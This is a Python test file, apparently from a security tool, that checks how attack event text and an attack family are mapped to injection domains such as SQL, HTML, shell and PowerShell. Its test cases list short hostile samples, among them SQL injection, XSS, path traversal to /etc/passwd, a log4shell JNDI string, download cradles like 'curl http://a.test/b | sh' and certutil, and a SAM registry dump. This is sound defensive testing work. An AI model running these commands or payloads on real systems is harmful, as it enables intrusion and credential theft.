"""The edits that fit an event are those of its shape, else those of its family."""

from __future__ import annotations

import pytest

from overproof.events.simulate import simulate
from overproof.redteam.domains import domain_of, why_none

DOMAINS = {
    *("sql", "html", "path", "url", "http", "shell", "powershell", "ldap", "nosql", "xpath", "template", "jndi", "xml"),
    *("ssi", "format_string", "dns", "line", "flow"),
}


@pytest.mark.parametrize(
    ("text", "family", "domain"),
    [
        ("HTTP GET /?id=1' or 1=1-- host=a", "sqli", "http"),
        ("1' or 1=1--", "sqli", "sql"),
        ("1' or 1=1--", " SQLi ", "sql"),
        ("<svg onload=alert(1)>", "xss", "html"),
        ("../../etc/passwd", "Path Traversal", "path"),
        ("../../etc/passwd", "directory_traversal", "path"),
        ("http://192.0.2.1/a.txt?", "rfi", "url"),
        ("//example.com", "open_redirect", "url"),
        ("http://127.0.0.1/", "ssrf", "url"),
        ("; cat /etc/passwd", "cmdi", "shell"),
        ("*)(uid=*", "ldapi", "ldap"),
        ("[$ne]=1", "nosqli", "nosql"),
        ("' or count(//*)=1", "xpathi", "xpath"),
        ("{{7*7}}", "ssti", "template"),
        ("${jndi:ldap://192.0.2.1/a}", "log4shell", "jndi"),
        ("<!DOCTYPE a>", "xxe", "xml"),
        ('<!--#exec cmd="id"-->', "ssi", "ssi"),
        ("%n%n%n", "format-string", "format_string"),
        ("dns client=a query=b.test type=A", None, "dns"),
        ("flow proto=tcp service=ssl state=SF", None, "flow"),
        ("flows src=a dst=b conns=2^3", None, "flow"),
        ("protocol=tcp service=private flag=S0 count=2^6", "neptune", "flow"),
        ("proto=tcp service=http conn_state=SF orig_bytes=2^10", None, "flow"),
        ('203.0.113.9 - - [01/Mar/2026:10:00:00 +0000] "GET /?a=<script> HTTP/1.1" 404 1', "xss", "line"),
        ("Mar  1 10:00:00 kolva sshd[2278]: Invalid user a from 192.0.2.1 port 5", None, "line"),
        ('{"msg":"failed"}', "crowdsecurity/mongodb-bf", "line"),
        ("powershell -enc aQBkAA==", "download-cradle", "powershell"),
        ("PS C:\\Users\\mira> certutil -urlcache -f http://a.test/b b", "download-cradle", "powershell"),
        ("certutil -urlcache -f http://a.test/b b", "download-cradle", None),
        ("C:\\Windows\\System32\\reg.exe save HKLM\\SAM a", "credential-dump", None),
        ("mira@kolva:~$ curl http://a.test/b | sh", "download-cradle", "shell"),
        ("Get-ChildItem C:\\", "T1083", "powershell"),
        ("find / -perm -4000", "T1083", "shell"),
        ("SSH src=a dst=b port=22", "ssh-brute-force", None),
        ("TLS ws-kola sni=a.test", "sqli", None),
        ("1' or 1=1--", None, None),
        ("1' or 1=1--", "benign", None),
    ],
)
def test_the_domain_of_an_event(text: str, family: str | None, domain: str | None) -> None:
    assert domain_of(text, family) == domain
    assert domain is None or domain in DOMAINS


def test_why_no_edit_fits_is_said() -> None:
    assert "sessions and files" in why_none("SSH src=a dst=b port=22", "ssh-brute-force")
    assert "the family odd" in why_none("x", "odd")
    assert "no family" in why_none("x", None)
    assert "Windows" in why_none("reg save HKLM\\SAM a", "credential_dump")


def test_every_simulated_attack_has_its_domain_but_sessions_and_windows_commands() -> None:
    traffic = simulate(600, seed=1).train
    columns = (traffic[name].to_pylist() for name in ("text", "label", "family", "group"))
    for text, label, family, group in zip(*columns, strict=True):
        domain, sensor = domain_of(text, family), group.split(":")[1]
        if label == "normal" or sensor == "command":
            continue
        assert domain == {"http": "http", "dns": "dns", "flow": "flow", "log": "line", "session": None}[sensor]
